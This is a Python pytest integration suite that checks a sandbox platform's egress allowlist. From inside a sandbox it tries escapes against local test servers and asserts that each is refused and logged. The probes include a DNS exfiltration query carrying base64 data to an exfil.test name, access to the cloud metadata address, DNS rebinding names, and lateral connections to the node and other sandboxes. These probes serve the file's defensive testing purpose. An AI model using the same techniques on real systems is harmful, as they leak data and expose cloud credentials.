"""Egress allowlists, each attack made from inside an allowlisted sandbox.

The destinations are local: a network namespace the test makes ("outside", routed
through the host as the internet would be) runs TCP servers that write down every
connection they accept, and a UDP listener on port 53 that writes down every
datagram. Names come from the node's hosts file (DSEC_EGRESS_HOSTS). An attack
passes only if the sandbox's probe fails *and* no server saw it arrive; a positive
probe on the same path (the allowed name) shows the path works at all.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from app.config import Settings
from app.domain.egress import NetworkPolicy
from app.errors import SandboxFailedError
from app.metrics import sample
from app.stack.outside import Outside
from tests.conftest import wait_for
from tests.integration.test_metrics import scrape

pytestmark = pytest.mark.integration

REFUSED = "dsec_node_egress_refused_total"
NS = "dsec-egress-test"
HOST_SIDE, ALLOWED, OTHER = "10.98.0.1", "10.98.0.2", "10.98.0.3"
METADATA = "169.254.169.254"
PORTS = (80, 8080, 8081)
NAMES = {
    "allowed.test": ALLOWED,
    "a.svc.test": ALLOWED,
    "rebind.test": METADATA,  # an allowed name answering with the metadata address
    "node.test": HOST_SIDE,  # ... or with the node's own
}

_SERVER = textwrap.dedent(
    """
    import socket, sys, threading
    log = open(sys.argv[1], "a", buffering=1)
    def tcp(port):
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", port)); s.listen(64)
        while True:
            conn, peer = s.accept()
            here = conn.getsockname()
            log.write(f"tcp {here[0]}:{here[1]}\\n")
            conn.sendall(f"HELLO {here[0]}:{here[1]}\\n".encode()); conn.close()
    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 53))
        while True:
            data, peer = s.recvfrom(4096)
            log.write(f"udp {len(data)} bytes\\n")
    for port in sys.argv[2:]:
        threading.Thread(target=tcp, args=(int(port),), daemon=True).start()
    udp()
    """
)


def _sh(*argv: str) -> None:
    subprocess.run(argv, check=True, capture_output=True)


@pytest.fixture(scope="module")
def outside(stack: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The outside namespace with its servers, the node's hosts file naming them;
    yields the servers' log."""
    if not stack.allow_egress:
        pytest.skip("this stack gives no network (DSEC_ALLOW_EGRESS=false)")
    work = tmp_path_factory.mktemp("egress")
    log, script = work / "seen.log", work / "server.py"
    script.write_text(_SERVER)
    hosts = stack.egress_hosts or stack.state_dir / "egress-hosts"
    kept = hosts.read_text() if hosts.exists() else None
    net = Outside(NS, "dsec-egt0", HOST_SIDE, (f"{ALLOWED}/24", f"{OTHER}/24", f"{METADATA}/32"))
    inside = net.make().inside
    # Without the platform's defence the metadata address would answer: route it there.
    _sh("ip", "route", "replace", f"{METADATA}/32", "via", ALLOWED)
    server = subprocess.Popen([*inside, sys.executable, str(script), str(log), *map(str, PORTS)])
    hosts.write_text("".join(f"{addr} {name}\n" for name, addr in NAMES.items()))
    try:
        time.sleep(0.5)
        yield log
    finally:
        server.kill()
        subprocess.run(["ip", "route", "del", f"{METADATA}/32"], capture_output=True)
        net.remove()
        if kept is None:
            hosts.unlink(missing_ok=True)
        else:
            hosts.write_text(kept)


POLICY = NetworkPolicy(
    allow=[
        "allowed.test:8080", "*.svc.test:8080", "rebind.test:80", "node.test",
        # Broad address rules that cover what the node must refuse whatever a rule says:
        # the metadata address, other sandboxes.
        "128.0.0.0/1:80", "10.213.0.0/16:7000",
    ]
)  # fmt: skip


@pytest.fixture(scope="module")
def box(client: Any, outside: Path) -> Iterator[Any]:
    with client.create(network=POLICY) as sandbox:
        yield sandbox


def _dial(box: Any, host: str, port: int) -> str:
    """What a TCP connection from the sandbox got back ('' if none)."""
    return str(box.exec(f"nc -w 3 {host} {port} </dev/null", timeout_s=20).text)


def _seen(log: Path) -> list[str]:
    return log.read_text().splitlines() if log.exists() else []


def test_an_allowed_name_is_reached_by_name_and_by_wildcard(box: Any, outside: Path) -> None:
    assert box.exec("ls /sys/class/net").text.split() == ["eth0", "lo"]
    assert _dial(box, "allowed.test", 8080) == f"HELLO {ALLOWED}:8080\n"
    assert _dial(box, "a.svc.test", 8080) == f"HELLO {ALLOWED}:8080\n"
    assert f"tcp {ALLOWED}:8080" in _seen(outside)


def test_an_address_not_on_the_list_is_refused(box: Any, outside: Path) -> None:
    # An allowed name's port on another address (a Host or SNI of the allowed name
    # sent there reaches nothing either: the connection never opens)
    box.exec("nslookup allowed.test")
    assert _dial(box, OTHER, 8080) == ""
    assert box.exec(
        f"printf 'GET / HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n' | nc -w 3 {OTHER} 8080"
    ).text == ""  # fmt: skip
    assert not [line for line in _seen(outside) if OTHER in line]


def test_a_port_beyond_the_allowed_one_is_refused(box: Any, outside: Path) -> None:
    box.exec("nslookup allowed.test")
    assert _dial(box, ALLOWED, 8081) == ""
    assert _dial(box, "allowed.test", 80) == ""
    assert not [line for line in _seen(outside) if ":8081" in line or f"{ALLOWED}:80" == line]


def test_names_rebinding_to_the_metadata_address_or_the_node_get_no_answer(
    box: Any, outside: Path
) -> None:
    assert "169.254" not in box.exec("nslookup rebind.test").text
    assert "10.98.0.1" not in box.exec("nslookup node.test").text.split("Name:")[-1]
    # And the metadata address is refused even though a rule's network covers it
    assert _dial(box, METADATA, 80) == ""
    assert _dial(box, "rebind.test", 80) == ""
    assert not [line for line in _seen(outside) if METADATA in line]


def test_the_node_itself_is_refused(box: Any, outside: Path) -> None:
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    try:
        gateway = box.exec("ip route | sed -n 's/default via \\([0-9.]*\\).*/\\1/p'").text.strip()
        for host in (HOST_SIDE, gateway, "10.213.0.1"):
            assert _dial(box, host, port) == "", host
        with pytest.raises(TimeoutError):
            listener.accept()
    finally:
        listener.close()


def test_dns_to_names_not_allowed_goes_nowhere(box: Any, outside: Path) -> None:
    # Data spelled into names: refused by the node's resolver, even when the query
    # is sent to an outside server (port 53 leads to the node's resolver alone)
    before = [line for line in _seen(outside) if line.startswith("udp")]
    for server in ("", ALLOWED):
        answer = box.exec(f"nslookup c2VjcmV0LWRhdGE.exfil.test {server}").text
        assert "REFUSED" in answer, answer
    assert [line for line in _seen(outside) if line.startswith("udp")] == before


def test_another_sandbox_is_refused(client: Any, box: Any, outside: Path) -> None:
    with client.create(network=NetworkPolicy(allow=["allowed.test:8080"])) as other:
        other.start("while true; do echo HELLO-OTHER | nc -l -p 7000; done")
        address = other.exec("ip -4 addr show eth0").text.split("inet ")[1].split("/")[0]
        assert address.startswith("10.213.")
        time.sleep(0.5)
        assert "HELLO-OTHER" not in _dial(box, address, 7000)


def test_refusals_are_counted_and_the_allowlist_is_in_the_log(
    stack: Settings, client: Any, outside: Path, db: Any
) -> None:
    port = stack.node_metrics_port_of(stack.node_id)
    before = sample(scrape(port), REFUSED) or 0
    sandbox = client.create(network=NetworkPolicy(allow=["allowed.test:8080"]))
    _dial(sandbox, OTHER, 8080)
    sandbox.exec("nslookup not-allowed.test")
    sandbox.close()
    # The node's metrics count them as the sandbox ends
    assert (sample(scrape(port), REFUSED) or 0) >= before + 2

    def stopped() -> Any:
        with db() as conn:
            return conn.execute(
                text(
                    "SELECT s.egress, e.payload->'last_state'->>'egress_refused',"
                    " e.payload->'last_state'->'egress_refused_sample' FROM sandboxes s"
                    " JOIN events e ON e.sandbox_id = s.sandbox_id"
                    " AND e.type = 'SandboxStopped' WHERE s.sandbox_id = :s"
                ),
                {"s": sandbox.id},
            ).first()

    egress, refused, refused_sample = wait_for(stopped, 20, "the sandbox's end in the log")
    assert egress == ["allowed.test:8080"]
    assert int(refused) >= 2
    # An operator sees what it reached for, not only how often
    assert "not-allowed.test" in refused_sample
    assert f"{OTHER}:8080" in refused_sample
    with db() as conn:
        requested = conn.execute(
            text("SELECT payload FROM events WHERE sandbox_id = :s AND type = 'SandboxRequested'"),
            {"s": sandbox.id},
        ).scalar_one()
    assert json.loads(json.dumps(requested))["egress"] == {"allow": ["allowed.test:8080"]}


def test_a_bad_allowlist_is_refused_before_anything_is_made(client: Any) -> None:
    with pytest.raises((SandboxFailedError, ValueError)):
        client.create(network={"allow": ["169.254.169.254:80"]})


def test_the_cli_makes_an_allowlisted_sandbox_and_ps_shows_its_list(outside: Path) -> None:
    from tests.integration.test_cli import _json, dsec

    made = dsec("create", "--allow", "allowed.test:8080", "--allow", "*.svc.test:8080")
    assert made.exit_code == 0, made.output
    sandbox_id = made.stdout.strip()
    try:
        ran = dsec(
            "exec", sandbox_id, f"nc -w 3 allowed.test 8080 </dev/null; nc -w 3 {OTHER} 8080"
        )
        assert ran.stdout == f"HELLO {ALLOWED}:8080\n", ran.output
        [row] = [r for r in _json(dsec("ps", "--json")) if r["sandbox_id"] == sandbox_id]
        assert json.loads(row["network"]) == ["allowed.test:8080", "*.svc.test:8080"]
    finally:
        dsec("destroy", sandbox_id)

    def described() -> Any:
        found = json.loads(dsec("describe", sandbox_id, "--json").stdout)
        return found if found["last_state"] else None

    found = wait_for(described, 20, "the sandbox's end in `dsec describe`")
    assert found["egress"] == ["allowed.test:8080", "*.svc.test:8080"]
    assert f"{OTHER}:8080" in found["last_state"]["egress_refused_sample"]
